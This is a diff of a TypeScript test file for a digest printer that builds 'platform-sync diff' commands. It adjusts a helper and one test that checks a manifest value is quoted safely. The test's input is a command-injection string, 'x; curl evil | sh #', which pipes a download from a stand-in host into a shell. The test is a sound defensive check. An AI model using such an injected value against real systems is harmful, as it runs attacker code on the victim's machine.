@@ -19,11 +19,12 @@ async function digestOf(
   await prepare(store);
   const before = changes.flatMap((change) => ('before' in change ? [change.before] : []));
   const after = changes.flatMap((change) => ('after' in change ? [change.after] : []));
-  await publishLines(store, {
-    run: monday,
-    lines: before,
-    manifest: { missing: [{ id: '5', status: 404 }] },
-  });
+  if (manifest.changes !== null)
+    await publishLines(store, {
+      run: monday,
+      lines: before,
+      manifest: { missing: [{ id: '5', status: 404 }] },
+    });
   const count = (what: string) => changes.filter(({ change }) => change === what).length;
   const counts = { added: count('added'), removed: count('removed'), changed: count('changed') };
   const key = changesKey('calculations', tuesday, monday.id, '0');
@@ -36,7 +37,7 @@ async function digestOf(
   await store.put(key, gzipSync(lines));
   const [run] = await publishedRuns(store, 'calculations');
   if (run === undefined) throw new Error('expected a run');
-  const digest = await collectDigest({ store, place: 'calculations', run });
+  const digest = await collectDigest({ store, place: 'calculations', run: run.run });
   return printDigest(digest, 's3://bucket/acme');
 }
 
@@ -47,9 +48,10 @@ const links = (...valid: readonly string[]) => ({
 });
 
 test('what a manifest says is a word of the command in a digest, whatever it is', async () => {
-  const changes = { against: 'x; curl evil | sh #', added: 0, removed: 0, changed: 1, key: 'changes/gone' };
+  const key = changesKey('calculations', tuesday, monday.id, '0');
+  const changes = { against: 'x; curl evil | sh #', added: 1, removed: 0, changed: 0, key };
 
-  const { text } = await digestOf([], { changes });
+  const { text } = await digestOf([{ change: 'added', key: '1', after: record('1', 'New') }], { changes });
 
   expect(text).toContain(`platform-sync diff calculations "x; curl evil | sh #" ${tuesday.id}`);
 });
